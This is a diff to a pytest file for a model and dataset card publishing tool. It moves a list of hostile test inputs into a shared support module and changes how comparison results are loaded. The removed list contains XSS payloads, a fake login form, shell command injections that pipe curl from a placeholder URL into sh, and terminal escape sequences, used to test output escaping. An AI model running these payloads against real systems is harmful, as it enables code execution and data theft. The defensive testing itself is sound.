@@ -13,7 +13,7 @@ from threading import Thread
 import pytest
 from markdown_it import MarkdownIt
 
-from llava_mistral.evaluation.comparison import compare
+from llava_mistral.evaluation.comparison import compare, read_run
 from llava_mistral.evaluation.report import comparison_page
 from llava_mistral.ground import escaping
 from llava_mistral.ground.bad_input import BadInput
@@ -21,27 +21,12 @@ from llava_mistral.publishing.cards import card_html
 from llava_mistral.publishing.dataset_card import dataset_card
 from llava_mistral.publishing.model_card import model_card
 from llava_mistral.publishing.staging import stage_model
+from tests.support.hostile_words import HOSTILE
+from tests.support.result_folders import results
 from tests.support.running import run_here
 from tests.support.tiny_publications import RUN, SUMMARY, save_checkpoint
-from tests.test_comparison import groups
 
 shows = pytest.mark.case
-HOSTILE = [
-    "<script>fetch('URL/script');document.title='ran'</script>",
-    "<img src=URL/img onerror=\"fetch('URL/onerror')\">",
-    "![a picture](URL/markdown)",
-    "[press here](URL/link)",
-    "<form action=URL/form><input type=password><button>log in</button></form>",
-    "a | b | c\n| d | e |\n\n# Official\n\n<iframe src=URL/frame></iframe>",
-    "text\n```\n<svg onload=fetch('URL/svg')></svg>\n````\nafter",
-    "---\nlicense: mit\n---",
-    "finetune; curl URL/shell | sh #",
-    "$(curl URL/substitution) `curl URL/backtick`",
-    "\x1b]52;c;Y3VybA==\x07\x1b[2J\x1b]0;title\x07\u202e",
-    "</summary></details></pre></style><style>@import 'URL/css'</style><body style=background:url(URL/body)>",
-    "javascript:fetch('URL/js') <URL/autolink> www.example.org someone@example.org",
-    "{{ 7 * 7 }} {% raw %} &lt;b&gt; &amp; ''' \"\"\" \\ \\n",
-]
 MANIFEST = {
     "method": "random", "size": 3, "seed": 0, "source": "somewhere", "input": {"name": "n", "rows": 9, "sha256": "ab"},
     "counts": {"kept": 3, "too much": 6}, "recipe": {"dataset": "d", "split": "train", "pool": "all"},
@@ -222,7 +207,9 @@ def elements(page: str) -> list[tuple]:
 def pages(staged: Path, folder: Path, text: str) -> dict[str, str]:
     folder.mkdir()
     title = f"{text} title"
-    found = compare(groups(folder, **{"mistral": [90], "llama": [80]}))
+    found = compare(
+        {name: [read_run(results(folder / name, right))] for name, right in (("mistral", 90), ("llama", 80))}
+    )
     found["models"] = {f"{name} {text}": model for name, model in found["models"].items()}
     for pair in found["pairs"]:
         pair["first"], pair["second"] = f"{pair['first']} {text}", f"{pair['second']} {text}"
